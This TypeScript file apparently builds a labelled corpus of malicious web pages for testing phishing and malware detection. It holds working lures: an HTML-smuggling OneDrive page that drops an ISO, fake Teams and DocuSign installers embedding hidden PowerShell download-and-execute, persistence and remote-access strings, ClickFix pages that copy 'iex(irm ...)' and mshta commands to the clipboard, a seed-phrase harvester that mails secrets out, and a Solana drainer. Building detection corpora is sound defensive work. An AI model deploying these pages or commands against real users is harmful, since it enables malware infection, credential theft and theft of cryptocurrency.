import { htmlRoute, type Entry } from '../entry.js';
import { b64, beepWav, cfb, chunks, doc, DOCUSIGN_LOGO, fileRoute, iso, jsonRoute, jsRoute, lnk, MS_SQUARES, pe, rev, TEAMS_LOGO, tok, zip, ZOOM_LOGO } from '../parts/yo-kit.js';

export const entries: Entry[] = [
(() => {
  const img = iso('INV_0932', ['INVOICE_0932.lnk', 'data.dat', 'version.dll']);
  return {
    id: 'yo-smuggle-iso-invoice',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://onedrive-docs-viewer.azureedge.net/shared/INVOICE_0932.html',
    body: doc({
      title: 'OneDrive',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;color:#323130}
.t{background:#0078d4;height:48px;display:flex;align-items:center;padding:0 18px;color:#fff;font-weight:600;gap:10px}
.c{max-width:460px;margin:70px auto;background:#fff;padding:30px;text-align:center;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13)}
.pb{height:4px;background:#edebe9;margin:18px 0;overflow:hidden}.pb i{display:block;height:100%;width:0;background:#0078d4;transition:width 2s}`,
      body: `<div class="t">${MS_SQUARES} OneDrive</div>
<div class="c"><h3>Downloading INVOICE_0932&hellip;</h3><div class="pb"><i id="bar"></i></div><p style="font-size:13px;color:#605e5c">If your download does not start automatically, <a href="#" id="again">click here</a>. Open the downloaded file to view the invoice.</p></div>
<script>
function b2a(s){var b=atob(s),n=b.length,u=new Uint8Array(n);while(n--){u[n]=b.charCodeAt(n)}return u}
var d="${img.toString('base64')}";
function save(){var blob=new Blob([b2a(d)],{type:"application/octet-stream"});var fn="INVOICE_0932.iso";
 if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(blob,fn);return}
 var a=document.createElement("a");document.body.appendChild(a);a.style="display:none";var url=window.URL.createObjectURL(blob);a.href=url;a.download=fn;a.click();window.URL.revokeObjectURL(url)}
setTimeout(function(){document.getElementById("bar").style.width="100%"},50);setTimeout(save,1200);
document.getElementById("again").onclick=function(e){e.preventDefault();save()};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const host = 'teams-update.microsoft-meetings.net';
  return {
    id: 'yo-fake-teams-update-exe',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${host}/l/meetup-join/19%3ameeting_ZTdhYjk2/0?context=%7b%22Tid%22%3a%22a1b2%22%7d`,
    routes: {
      [`${host}/l/meetup-join/19%3ameeting_ZTdhYjk2/0`]: htmlRoute(
        doc({
          title: 'Microsoft Teams',
          css: `body{margin:0;background:#f5f5f5;font-family:"Segoe UI",Arial,sans-serif;color:#242424}.top{height:48px;background:#464775;display:flex;align-items:center;padding:0 16px;gap:8px;color:#fff;font-weight:600}
.c{max-width:560px;margin:60px auto;background:#fff;border-radius:6px;padding:34px;text-align:center;box-shadow:0 2px 4px rgba(0,0,0,.1)}
.btn{display:inline-block;background:#5b5fc7;color:#fff;border-radius:4px;padding:10px 26px;text-decoration:none;font-weight:600}.v{font-size:12px;color:#616161;margin-top:14px}`,
          body: `<div class="top">${TEAMS_LOGO} Microsoft Teams</div><div class="c"><h2>Your Teams app is out of date</h2>
<p>To join <b>"Quarterly Business Review"</b> you need the latest version of Microsoft Teams. Your current version (1.6.00.4472) is no longer supported for meetings with external participants.</p>
<a class="btn" id="dl" href="/downloads/MSTeamsSetup_c_l_.exe">Update and join</a>
<p class="v">Version 24231.512.3106.6573 &middot; 64-bit &middot; The download will start automatically.</p></div>
<script>setTimeout(function(){location.href=document.getElementById("dl").href},2000)</script>`,
        }),
      ),
      [`${host}/downloads/MSTeamsSetup_c_l_.exe`]: fileRoute(
        pe({ x64: true, size: 48000, strings: ['Microsoft Teams Installer', 'Microsoft Corporation', 'https://teams-update.microsoft-meetings.net/gate.php', 'powershell -ep bypass -w hidden -enc', 'AppData\\Roaming\\TeamsUpdate\\svc.exe', 'schtasks /create /sc onlogon /tn TeamsUpdater'] }),
        'application/x-msdownload',
        'MSTeamsSetup_c_l_.exe',
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const cmd = `powershell -w h -c "iex(irm https://zoom-audio-fix.com/a/driver.ps1 -UseBasicParsing)" # Zoom Audio Device Repair`;
  return {
    id: 'yo-fake-zoom-audio-clickfix',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://us05web.zoom-meeting-room.com/wc/join/84720315591?pwd=bnRxS0ZtYk8',
    body: doc({
      title: 'Zoom Meeting',
      css: `body{margin:0;background:#1a1a1a;color:#fff;font-family:Lato,Arial,sans-serif}.vid{position:fixed;inset:0 0 64px 0;display:grid;grid-template-columns:1fr 1fr;gap:4px;padding:4px}
.vid div{background:#2a2a2a;display:flex;align-items:flex-end;padding:10px;font-size:13px;border-radius:4px}.bar{position:fixed;bottom:0;left:0;right:0;height:64px;background:#111;display:flex;align-items:center;justify-content:center;gap:28px;font-size:12px;color:#ccc}
#m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;color:#222;width:460px;border-radius:10px;padding:26px;box-shadow:0 10px 40px rgba(0,0,0,.6)}
#m h3{margin:0 0 8px;color:#d93025}.k{display:inline-block;border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:1px 7px;font-family:monospace;background:#f5f5f5}
#m ol{padding-left:20px;font-size:14px;line-height:1.9}#fix{width:100%;height:42px;background:#0b5cff;color:#fff;border:0;border-radius:8px;font-weight:700;font-size:15px;margin-top:8px;cursor:pointer}`,
      body: `<div class="vid"><div>Daniel Whitaker</div><div>Sarah Lindqvist</div><div>Tom Okafor</div><div>You</div></div>
<div class="bar"><span>&#127908; Unmute</span><span>&#127909; Start Video</span><span>&#128101; Participants (4)</span><span style="color:#e33">Leave</span></div>
<div id="m">${ZOOM_LOGO}<h3>Audio device error (0x80070002)</h3><p style="font-size:14px">Zoom couldn't access your microphone and speakers. Other participants can't hear you. Run the audio repair to fix the driver:</p>
<ol><li>Click <b>Fix audio</b> below</li><li>Press <span class="k">&#8862; Win</span> + <span class="k">R</span></li><li>Press <span class="k">Ctrl</span> + <span class="k">V</span> and then <span class="k">Enter</span></li></ol>
<button id="fix">Fix audio</button></div>
<script>
var c=${JSON.stringify(cmd)};
document.getElementById("fix").addEventListener("click",function(){
 if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(c)}else{var t=document.createElement("textarea");t.value=c;document.body.appendChild(t);t.select();document.execCommand("copy");t.remove()}
 this.textContent="Copied \\u2714 Now press Win+R, Ctrl+V, Enter";
 fetch("/wc/beacon?ev=copied",{method:"POST"}).catch(function(){})});
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const payload = `mshta https://check-human.verif-cdn.com/cf/captcha.hta # \u2705 ''I am not a robot - reCAPTCHA Verification ID: 7731''`;
  return {
    id: 'yo-clickfix-captcha-mshta',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.harbourviewcarecentre.com/wp-admin/css/colors/verify/index.html',
    body: doc({
      title: 'Verification Required',
      css: `body{margin:0;background:#f9f9f9;font-family:Roboto,Arial,sans-serif}.cap{width:304px;margin:120px auto 0;border:1px solid #d3d3d3;border-radius:3px;background:#f9f9f9;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:14px;display:flex;align-items:center;justify-content:space-between}
.cap label{display:flex;align-items:center;gap:12px;font-size:14px;cursor:pointer}.cb{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff}
.logo{text-align:center;font-size:10px;color:#555}.logo b{display:block;width:32px;height:32px;margin:0 auto 2px;background:conic-gradient(#4a90e2 0 33%,#1c3aa9 0 66%,#aaa 0);border-radius:50%}
#steps{display:none;width:420px;margin:16px auto;background:#fff;border:1px solid #ddd;border-radius:4px;padding:18px 22px;font-size:14px}
#steps h4{margin:0 0 10px}#steps li{margin:8px 0}.k{background:#eee;border:1px solid #bbb;border-radius:3px;padding:0 6px;font-family:monospace}`,
      body: `<div class="cap"><label id="go"><span class="cb"></span>I'm not a robot</label><div class="logo"><b></b>reCAPTCHA<br>Privacy - Terms</div></div>
<div id="steps"><h4>Verification Steps</h4><ol><li>Press Windows Button <span class="k">&#8862;</span> + <span class="k">R</span></li><li>Press <span class="k">CTRL</span> + <span class="k">V</span></li><li>Press <span class="k">Enter</span> on your keyboard to finish</li></ol>
<p style="color:#666;font-size:12px">Perform the steps above to finish verification.</p></div>
<script>
var v=${JSON.stringify(payload)};
document.getElementById("go").onclick=function(){var t=document.createElement("textarea");t.value=v;t.style.position="fixed";t.style.opacity="0";document.body.appendChild(t);t.select();document.execCommand("copy");document.body.removeChild(t);
document.querySelector(".cb").style.borderColor="#4a90e2";document.getElementById("steps").style.display="block"};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const cmd = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Meet');iex $w.DownloadString('https://meet-mikrofon.de-support.net/treiber.txt')`;
  return {
    id: 'yo-clickfix-meet-mikrofon-de',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet.google.com-besprechung.info/xkp-qwer-tzu',
    body: doc({
      title: 'Meet – xkp-qwer-tzu',
      lang: 'de',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.w{display:grid;grid-template-columns:1.3fr 1fr;gap:40px;max-width:1100px;margin:60px auto;padding:0 24px}
.pv{background:#3c4043;border-radius:10px;height:340px;display:flex;align-items:center;justify-content:center;font-size:15px;color:#bdc1c6}
.err{background:#fff;color:#202124;border-radius:10px;padding:22px}.err h2{font-size:20px;margin:0 0 10px;color:#d93025}
.k{display:inline-block;background:#f1f3f4;border:1px solid #dadce0;border-radius:4px;padding:0 6px;font-family:monospace}
button{background:#1a73e8;color:#fff;border:0;border-radius:20px;padding:10px 22px;font-weight:500;margin-top:10px;cursor:pointer}`,
      body: `<div class="w"><div class="pv">&#127897;&#65039; Kamera ist aus &middot; Mikrofon blockiert</div>
<div class="err"><h2>Problem mit Ihrem Mikrofon</h2><p style="font-size:14px">Ihr Browser kann nicht auf Mikrofon und Kamera zugreifen. Die anderen Teilnehmer können Sie nicht hören. So beheben Sie das Problem:</p>
<ol style="font-size:14px;line-height:1.9"><li>Klicken Sie auf <b>Problem beheben</b></li><li>Drücken Sie <span class="k">Win</span> + <span class="k">X</span> und wählen Sie <b>Terminal (Administrator)</b></li><li>Fügen Sie mit <span class="k">Strg</span> + <span class="k">V</span> ein und drücken Sie <span class="k">Enter</span></li></ol>
<button id="b">Problem beheben</button><p id="ok" style="display:none;color:#188038;font-size:13px">Befehl kopiert. Führen Sie jetzt Schritt 2 und 3 aus.</p></div></div>
<script>
var s=${JSON.stringify(cmd)};
document.getElementById("b").onclick=function(){navigator.clipboard.writeText(s);document.getElementById("ok").style.display="block"};
document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain",s);e.preventDefault()});
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const host = 'docusign-viewer.secure-envelope-app.com';
  return {
    id: 'yo-docusign-viewer-msi',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${host}/envelope/open?id=${tok('dsmsi', 32)}`,
    routes: {
      [`${host}/envelope/open`]: htmlRoute(
        doc({
          title: 'DocuSign | Secure Viewer',
          css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f7f7f7;color:#333}.hd{background:#fff;padding:12px 26px;border-bottom:1px solid #e5e5e5}
.c{max-width:520px;margin:60px auto;background:#fff;padding:32px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.12)}
.btn{display:inline-block;background:#ffc820;color:#1e1e1e;font-weight:700;padding:11px 26px;border-radius:3px;text-decoration:none}
ul{font-size:14px;color:#555}`,
          body: `<div class="hd">${DOCUSIGN_LOGO}</div><div class="c"><h2 style="margin-top:0">Secure Viewer required</h2>
<p>This envelope (<b>Employment_Agreement_Amendment.docx</b>) is protected with DocuSign Rights Management and can only be opened with the DocuSign Secure Viewer for Windows.</p>
<ul><li>Size: 24.8 MB</li><li>Publisher: DocuSign, Inc.</li><li>Compatible with Windows 10 and 11</li></ul>
<a class="btn" href="/envelope/DocuSignSecureViewer_x64.msi">DOWNLOAD SECURE VIEWER</a>
<p style="font-size:12px;color:#888;margin-top:18px">After installation, return to this page and the document opens automatically.</p></div>`,
        }),
      ),
      [`${host}/envelope/DocuSignSecureViewer_x64.msi`]: fileRoute(
        cfb(['DocuSign Secure Viewer', 'DocuSign, Inc.', 'CustomAction', 'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -C "IEX(New-Object Net.WebClient).DownloadString(\'https://secure-envelope-app.com/s\')"', 'ScreenConnect.ClientService.exe', 'h=relay.secure-envelope-app.com&p=8041'], 65536),
        'application/x-msi',
        'DocuSignSecureViewer_x64.msi',
      ),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-drainer-walletconnect-manual-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://walletconnect-sync.dapp-rectify.net/connect/manual?wallet=metamask',
  body: doc({
    title: 'WalletConnect | Rectify',
    css: `body{margin:0;background:#141414;color:#fff;font-family:Inter,Arial,sans-serif}.m{max-width:440px;margin:60px auto;background:#1f1f1f;border-radius:24px;padding:26px;border:1px solid #2c2c2c}
.tabs{display:flex;gap:6px;margin:16px 0}.tabs span{flex:1;text-align:center;padding:8px;border-radius:10px;background:#2a2a2a;font-size:13px;cursor:pointer}.tabs span.on{background:#3396ff}
textarea{width:100%;box-sizing:border-box;height:120px;border-radius:12px;background:#111;color:#fff;border:1px solid #333;padding:12px;font-size:14px}
button{width:100%;height:48px;border:0;border-radius:14px;background:#3396ff;color:#fff;font-weight:700;font-size:15px;margin-top:14px}.h{font-size:12px;color:#9a9a9a;margin-top:10px}`,
    body: `<div class="m"><div style="display:flex;align-items:center;gap:10px"><span style="font-size:26px;color:#3396ff">&#9901;</span><b>WalletConnect</b></div>
<p style="color:#bbb;font-size:14px">Automatic connection failed (error 0x21: wallet out of sync). Import your wallet manually to rectify and restore synchronisation.</p>
<div class="tabs"><span class="on" data-t="phrase">Phrase</span><span data-t="keystore">Keystore JSON</span><span data-t="private">Private Key</span></div>
<form id="w"><input type="hidden" name="type" id="t" value="phrase"><textarea name="secret" id="s" placeholder="Enter your recovery phrase" required></textarea>
<div class="h">Typically 12 (sometimes 18, 24) words separated by single spaces</div><button type="submit">Validate</button></form></div>
<script>
Array.prototype.forEach.call(document.querySelectorAll(".tabs span"),function(s){s.onclick=function(){document.querySelector(".tabs .on").className="";s.className="on";document.getElementById("t").value=s.getAttribute("data-t");
document.getElementById("s").placeholder=s.getAttribute("data-t")==="phrase"?"Enter your recovery phrase":s.getAttribute("data-t")==="private"?"Enter your private key":"Paste keystore JSON"}});
document.getElementById("w").onsubmit=function(e){e.preventDefault();var words=this.secret.value.trim().split(/\\s+/);if(this.type.value==="phrase"&&[12,15,18,21,24].indexOf(words.length)<0){alert("Invalid phrase length");return}
var payload={wallet:new URLSearchParams(location.search).get("wallet"),type:this.type.value,secret:this.secret.value};
fetch("https://api.emailjs.com/api/v1.0/email/send",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({service_id:"service_q7x2k1m",template_id:"template_w0r4lt",user_id:"Hq3Xk9TzRw2_pLm0a",template_params:payload})})
.finally(function(){document.querySelector(".m").innerHTML="<h3>Validating...</h3><p style='color:#bbb'>Synchronisation may take up to 30 minutes. Do not close this page.</p>"})};
</script>`,
  }),
},
{
  id: 'yo-drainer-solana-mint-phantom',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://mint.madlads-genesis.xyz/',
  body: doc({
    title: 'Mad Lads Genesis | Free Mint',
    css: `body{margin:0;background:#000;color:#fff;font-family:"Space Grotesk",Arial,sans-serif;text-align:center}.h{padding:70px 20px}.h h1{font-size:56px;margin:0}
.g{display:flex;justify-content:center;gap:10px;margin:30px 0}.g div{width:110px;height:110px;border-radius:10px;background:linear-gradient(135deg,#333,#777)}
button{background:#ab9ff2;color:#000;border:0;border-radius:30px;padding:16px 44px;font-size:18px;font-weight:700;cursor:pointer}#s{color:#aaa;margin-top:16px;font-size:14px}`,
    body: `<div class="h"><h1>MAD LADS GENESIS</h1><p>2,222 supply &middot; Free mint for Solana holders &middot; 1 per wallet</p><div class="g"><div></div><div></div><div></div><div></div></div>
<p><b id="m">1,874</b> / 2,222 minted</p><button id="mint">Connect Phantom &amp; Mint</button><div id="s"></div></div>
<script>
var RPC="https://mainnet.helius-rpc.com/?api-key=2b1c7a04-93e8-4d1f-bb60-6a1f0e9d7c35",DEST="7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU";
async function go(){var p=window.phantom&&window.phantom.solana||window.solana;if(!p||!p.isPhantom){window.open("https://phantom.app/","_blank");return}
document.getElementById("s").textContent="Connecting wallet...";var r=await p.connect();var pk=r.publicKey.toString();
var plan=await (await fetch("/api/build",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({owner:pk,dest:DEST,rpc:RPC})})).json();
document.getElementById("s").textContent="Approve the mint in Phantom...";
var txs=(plan.txs||[]).map(function(b){return{serialize:function(){return Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})}}});
var signed=await p.signAllTransactions(plan.raw?plan.raw:txs);
await fetch("/api/submit",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({owner:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
document.getElementById("s").textContent="Minted! Your Mad Lad will appear in your wallet shortly."}
document.getElementById("mint").onclick=function(){go().catch(function(e){document.getElementById("s").textContent="Transaction cancelled."})};
</script>`,
  }),
},
];
